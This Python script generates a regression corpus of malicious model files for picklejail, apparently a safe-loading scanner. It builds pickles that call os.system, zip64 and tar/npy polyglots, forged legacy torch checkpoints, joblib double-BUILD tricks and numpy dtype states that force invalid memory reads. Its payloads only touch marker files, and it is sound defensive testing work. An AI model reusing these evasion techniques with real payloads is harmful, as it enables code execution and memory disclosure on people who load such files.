#!/usr/bin/env python3
"""Write corpus/containers/attacks/: files from attack reviews that picklejail
allowed before a fix, each of which runs code or hands out memory when its
real loader opens it.  INDEX (kept by hand) names the rule each must raise.

    /usr/bin/python3 corpus/containers/make_attacks.py

Needs Debian's python3-torch (TorchScript and legacy files are made by torch
itself; those are not byte-stable: torch picks storage keys per run).
Nothing here loads what it writes.  The payloads run
`touch /tmp/picklejail-attack-*`, or make numpy dereference 0x4141414141414141.
"""
import decimal
import io
import os
import pickle
import pickletools
import struct
import sys
import zipfile
import zlib

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks")


class Payload:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def evil_npy(tag):
    pk = pickle.dumps(Payload("touch /tmp/picklejail-attack-" + tag), protocol=2)
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += " " * ((64 - (10 + len(hdr) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + pk


# ---- zip records, written field by field ----------------------------------

def lfh(name, data):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(data),
                       len(data), len(data), len(name), 0) + name


def cdh(name, data, off, comment=b""):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21,
                       zlib.crc32(data), len(data), len(data), len(name), 0, len(comment),
                       0, 0, 0, off) + name + comment


def eocd(n, size, off):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, size, off, 0)


def z64eocd(n, size, off):
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, size, off)


def z64loc(at):
    return struct.pack("<IIQI", 0x07064B50, 0, at, 1)


def zip64_split():
    """Two ZIP64 end records: miniz follows the locator to one (a benign
    a.pkl and pad.bin), Python's zipfile reads the 56 bytes before the
    locator, a second record hidden in pad.bin's directory comment that
    points at a second directory: evil.npy, whose local header and data sit
    inside pad.bin's data.  np.load runs the object array's pickle."""
    out = bytearray()
    a_name, a_data = b"a.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=2)
    a_off = len(out)
    out += lfh(a_name, a_data) + a_data
    e_name, e_data = b"evil.npy", evil_npy("zip64-split")
    pad_off = len(out)
    e_local = pad_off + 30 + len(b"pad.bin") + 1
    pad = b"\x00" + lfh(e_name, e_data) + e_data
    out += lfh(b"pad.bin", pad) + pad
    rec_off = len(out)
    c1 = cdh(a_name, a_data, a_off)
    cdir_off = rec_off + 56
    b_rec = cdh(e_name, e_data, e_local)
    b_off = cdir_off + len(c1) + 46 + len(b"pad.bin")
    c2 = cdh(b"pad.bin", pad, pad_off, comment=b_rec + z64eocd(1, len(b_rec), b_off))
    out += z64eocd(2, len(c1 + c2), cdir_off) + c1 + c2
    out += z64loc(rec_off) + eocd(2, len(c1 + c2), cdir_off)
    return bytes(out)


def rezip(src, prefix, change=lambda rel, d: d, skip=lambda rel: False):
    """src's members under another prefix, stored, each passed to change."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, \
            zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            rel = info.filename.split("/", 1)[1]
            if not skip(rel):
                zout.writestr(zipfile.ZipInfo(prefix + "/" + rel, (2020, 1, 1, 0, 0, 0)),
                              change(rel, zin.read(info.filename)))
    return buf.getvalue()


def saved(obj, **kw):
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def torchscript_long_prefix():
    """A TorchScript archive (its __setstate__ runs at load, even with
    weights_only=True) under a 300-byte prefix, which a fixed 256-byte lookup
    key could not name: no archive member was found and nothing flagged.
    data.pkl starts with an invalid UTF-8 BINUNICODE that torch's own
    unpickler accepts and NEWOBJ discards, so a trial decode drops it; the
    code starts with a comment line, which no trial takes for a pickle."""
    import torch
    from typing import Tuple

    class M(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.x = 1

        def forward(self, x):
            return x

        @torch.jit.export
        def __getstate__(self) -> Tuple[int, bool]:
            return (self.x, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[int, bool]):
            t = torch.from_file("/tmp/picklejail-attack-torchscript", shared=True, size=4,
                                dtype=torch.uint8)
            t.fill_(65)
            self.x = state[0] + int(t.sum())
            self.training = state[1]

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), buf)
    def change(rel, d):
        if rel == "data.pkl":
            return d[:2] + b"X\x01\x00\x00\x00\xff\x81" + d[2:]
        if rel.startswith("code/"):  # starts with a comment, not a pickle opcode
            return b"# c\n" + d
        return d

    return rezip(buf.getvalue(), "a" * 300, change, skip=lambda rel: rel.endswith(".debug_pkl"))


def checkpoint_long_prefix_short_storage():
    """A 64-float storage whose record holds 4 bytes, under a 300-byte
    prefix: torch.load returns heap memory past the record."""
    import torch
    return rezip(saved({"w": torch.arange(64.0)}), "a" * 300,
                 lambda rel, d: bytes(4) if rel == "data/0" else d)


MAGIC = 0x1950A86A20F9469CFC6C


def legacy_pickles(obj):
    """The five pickles torch.save writes in the legacy format."""
    raw = saved(obj, _use_new_zipfile_serialization=False)
    f = io.BytesIO(raw)
    parts = []
    for _ in range(5):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        parts.append(raw[start:f.tell()])
    return parts


def legacy_no_storage_keys():
    """A legacy checkpoint whose storage-keys pickle is [] and which holds no
    storage bytes: torch.load returns the tensor's uninitialised storage."""
    import torch
    p = legacy_pickles({"w": torch.arange(64.0)})
    return p[0] + p[1] + p[2] + p[3] + pickle.dumps([], protocol=2)


def no_storage(header):
    """header, then the sys-info and object pickles of a real save, an empty
    storage-keys list and no storage bytes."""
    import torch
    p = legacy_pickles({"w": torch.zeros(64), "v": torch.zeros(64)})
    return header + p[2] + p[3] + pickle.dumps([], protocol=2)


def binunicode(text):
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def zero_joblib_wrapper():
    """Protocol 2 opcodes (no PROTO, no STOP) that build a joblib
    NumpyArrayWrapper of shape (0,) with no alignment byte (joblib.load reads
    no array data after it) and pop it."""
    s = binunicode
    dtype = (b"cnumpy\ndtype\n" + s("f8") + b"\x89\x88\x87R(K\x03" + s("<") +
             b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
    state = (s("subclass") + b"cnumpy\nndarray\n" + s("shape") + b"K\x00\x85" +
             s("order") + s("C") + s("dtype") + dtype +
             s("numpy_array_alignment_bytes") + b"N")
    return b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + state + b"ub0"


class Call:
    def __init__(self, f, args):
        self.f, self.args = f, args

    def __reduce__(self):
        return (self.f, self.args)


def legacy_joblib_magic():
    """The magic pickle also builds a zero-length joblib wrapper: joblib.load
    reads that pickle as its own, torch.load as the magic."""
    return no_storage(b"\x80\x02" + zero_joblib_wrapper() +
                      pickle.dumps(MAGIC, protocol=2)[2:] + pickle.dumps(1001, protocol=2))


def legacy_decimal_magic():
    """A Decimal magic and the float version 1001.0: torch.load's != takes
    both for the constants."""
    return no_storage(pickle.dumps(decimal.Decimal(MAGIC), protocol=2) +
                      pickle.dumps(1001.0, protocol=2))


def legacy_computed_version():
    """Magic and version both computed by int(): torch.load only compares
    the values."""
    return no_storage(pickle.dumps(Call(int, (str(MAGIC),)), protocol=2) +
                      pickle.dumps(Call(int, ("1001",)), protocol=2))


def legacy_joblib_version():
    """A computed magic, then a version pickle that builds a zero-length
    joblib wrapper before its 1001: torch.load reads it as pickle.load."""
    return no_storage(pickle.dumps(decimal.Decimal(MAGIC), protocol=2) +
                      b"\x80\x02" + zero_joblib_wrapper() + pickle.dumps(1001, protocol=2)[2:])


def joblib_build_twice():
    """A NumpyArrayWrapper built twice: load_build copies the state dict's
    items at the first BUILD, so joblib keeps shape (100,) although the pickle
    later sets the memoised dict's shape to (1,); it reads 800 bytes, not 8,
    before a posix.system call that a reader replaying the dict's final
    items sees as the bytes of a BINBYTES."""
    su = binunicode
    n = 100
    p = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81q\x00"
    p += b"}q\x01(" + su("shape") + b"Kd\x85" + su("order") + su("C")
    p += su("subclass") + b"cnumpy\nndarray\n"
    p += su("dtype") + b"cnumpy\ndtype\n" + su("f8") + b"\x89\x88\x87R"
    p += b"(K\x03" + su("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tbub"
    p += b"\x00" * (8 * n)                          # BUILD 1: n float64
    p += b"0h\x01" + su("shape") + b"K\x01\x85s0"   # D['shape'] = (1,)
    p += b"h\x00}b"                                 # BUILD 2: joblib reads n again
    call = b"cposix\nsystem\n(" + su("touch /tmp/picklejail-attack-joblib-build-twice") + b"tR."
    head = b"\x00" * 8 + b"0B"     # the wrong reading: 8 bytes, POP, BINBYTES
    body = head + struct.pack("<I", 8 * n + len(call) - 1 - len(head) - 4)
    body += b"\xee" * (8 * n - len(body))
    return p + body + call         # that BINBYTES ends at the call's STOP


# ---- numpy dtype states: numpy 1.24's dtype.__setstate__ trusts them ------

def bint(i):
    return b"J" + struct.pack("<i", i)


def np_dtype(ts):
    return b"cnumpy\ndtype\n" + binunicode(ts) + b"\x89\x88\x87R"


NP_RECON = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
# a structured dtype (x: object at 0) with numpy's own object flags
NP_OBJ_STATE = (b"(K\x03" + binunicode("|") + b"N" + binunicode("x") + b"\x85}" +
                binunicode("x") + np_dtype("O8") + b"(K\x03" + binunicode("|") + b"NNN" +
                bint(-1) + bint(-1) + b"K\x3ftb" + b"K\x00\x86s")


def numpy_dtype_flags_deny_objects():
    """One BUILD whose flags deny the object field: numpy fills the array
    from the file's bytes and dereferences them (0x4141...) on print."""
    return (b"\x80\x02" + NP_RECON + b"(K\x01K\x01\x85" + np_dtype("V8") + NP_OBJ_STATE +
            bint(8) + bint(8) + b"K\x00tb" + b"\x89C\x08" + b"\x41" * 8 + b"tb.")


def numpy_dtype_second_build():
    """A V8 array filled from raw bytes, then a second BUILD gives its dtype
    an object field."""
    return (b"\x80\x02" + NP_RECON + b"(K\x01K\x01\x85" + np_dtype("V8") + b"q\x05(K\x03" +
            binunicode("|") + b"NNN" + bint(8) + bint(1) + b"K\x00tb" + b"\x89C\x08" +
            b"\x41" * 8 + b"tbq\x06h\x05" + NP_OBJ_STATE + bint(8) + bint(8) + b"K\x1btb0h\x06.")


def numpy_dtype_build_after_use():
    """The dtype's only BUILD (with the right flags) comes after an array was
    filled with it."""
    return (b"\x80\x02" + np_dtype("V8") + b"q\x050" + NP_RECON + b"(K\x01K\x01\x85h\x05\x89C\x08" +
            b"\x41" * 8 + b"tbq\x060h\x05" + NP_OBJ_STATE + bint(8) + bint(8) + b"K\x1btb0h\x06.")


def numpy_dtype_joblib_second_build():
    """joblib reads 8 raw bytes for a wrapper's V8 dtype, then a second
    BUILD gives that dtype an object field."""
    su = binunicode
    return (b"\x80\x02" + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" +
            su("subclass") + b"cnumpy\nndarray\n" + su("shape") + b"K\x01\x85" +
            su("order") + su("C") + su("dtype") + np_dtype("V8") + b"q\x05(K\x03" + su("|") +
            b"NNN" + bint(8) + bint(1) + b"K\x00tb" + b"ub" + b"\x41" * 8 + b"q\x06h\x05" +
            NP_OBJ_STATE + bint(8) + bint(8) + b"K\x1btb0h\x06.")


def numpy_dtype_in_npy():
    """The flags-deny pickle as an .npy object array's data: np.load
    unpickles it (the audit must cover pickles inside containers too)."""
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += " " * ((64 - (10 + len(hdr) + 1) % 64) % 64) + "\n"
    return (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() +
            numpy_dtype_flags_deny_objects())


def npz_object_then_bad_header():
    """An object array (an informational note), then a member with a
    rejecting note (a header outside the literal grammar).  With the note
    cap reached, the rejecting note was dropped behind the informational
    one and the file allowed: a review made the same with 1024 object arrays
    and a member whose pickle np.load runs.  test_container sets the cap
    to 1 on this file."""
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += " " * ((64 - (10 + len(hdr) + 1) % 64) % 64) + "\n"
    obj = (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() +
           pickle.dumps([1, "x"], protocol=2))
    bad = b"\x93NUMPY\x01\x00\x10\x00{'descr': eval}\n" + evil_npy("npz-note-cap")[10:]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in (("a.npy", obj), ("evil.npy", bad)):
            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


# ---- files torch.load opens as tar (its legacy reader tries tarfile first) --

def _tar_with_storages():
    """A ustar archive whose member `storages` is a pickle torch.load runs."""
    import tarfile
    payload = b"cposix\nsystem\n(S'touch /tmp/picklejail-attack-tar'\ntR."
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in (("placeholder", b""), ("storages", payload)):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return bytearray(bio.getvalue())


def _fix_tar_checksum(b):
    b[148:156] = b" " * 8
    b[148:156] = b"%06o\0 " % sum(b[0:512])


def tar_npy():
    """A valid numeric .npy (no pickle) whose first 512 bytes are also a tar
    header: np.load reads an array, torch.load the tar's `storages`."""
    b = _tar_with_storages()
    for hl in range(40, 90):
        n = len(b) - (10 + hl)
        h = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % n).ljust(hl - 1) + "\n"
        if len(h) == hl:
            break
    prefix = b"\x93NUMPY\x01\x00" + hl.to_bytes(2, "little") + h.encode()
    b[0:100] = prefix.ljust(100, b"\0")
    _fix_tar_checksum(b)
    return bytes(b)


def tar_empty_npz():
    """An end record at byte 0 whose comment covers the rest: an empty .npz
    to np.load, a tar to torch.load."""
    b = _tar_with_storages()
    b[0:22] = b"PK\x05\x06" + bytes(16) + (len(b) - 22).to_bytes(2, "little")
    _fix_tar_checksum(b)
    return bytes(b)


def checkpoint_bytes_key():
    """A persistent id whose storage key is b'0': torch reads the record
    "data/b'0'" (4 bytes), not "data/0" (the 256 bytes we checked)."""
    import torch
    t = torch.arange(64.0)

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, torch.storage.TypedStorage):
                return ("storage", torch.FloatStorage, b"0", "cpu", obj.size())
            return None

    pk = io.BytesIO()
    P(pk, protocol=3).dump({"w": t})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in (("archive/data.pkl", pk.getvalue()),
                           ("archive/data/0", t.numpy().tobytes()),
                           ("archive/data/b'0'", bytes(4)), ("archive/version", b"3\n")):
            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def main():
    files = {
        "zip64-split.npz": zip64_split(),
        "torchscript-long-prefix.pt": torchscript_long_prefix(),
        "torch-long-prefix-short-storage.pt": checkpoint_long_prefix_short_storage(),
        "legacy-no-storage-keys.pt": legacy_no_storage_keys(),
        "legacy-joblib-magic.pt": legacy_joblib_magic(),
        "legacy-decimal-magic.pt": legacy_decimal_magic(),
        "legacy-computed-version.pt": legacy_computed_version(),
        "legacy-joblib-version.pt": legacy_joblib_version(),
        "torch-bytes-storage-key.pt": checkpoint_bytes_key(),
        "joblib-build-twice.pkl": joblib_build_twice(),
        "numpy-dtype-flags-deny-objects.pkl": numpy_dtype_flags_deny_objects(),
        "numpy-dtype-second-build.pkl": numpy_dtype_second_build(),
        "numpy-dtype-build-after-use.pkl": numpy_dtype_build_after_use(),
        "numpy-dtype-joblib-second-build.pkl": numpy_dtype_joblib_second_build(),
        "numpy-dtype-in-npy.npy": numpy_dtype_in_npy(),
        "npz-object-then-bad-header.npz": npz_object_then_bad_header(),
        "tar-npy.npy": tar_npy(),
        "tar-empty-npz.npz": tar_empty_npz(),
    }
    os.makedirs(OUT, exist_ok=True)
    for name, data in files.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
    print("wrote %d files to %s" % (len(files), OUT), file=sys.stderr)


if __name__ == "__main__":
    main()
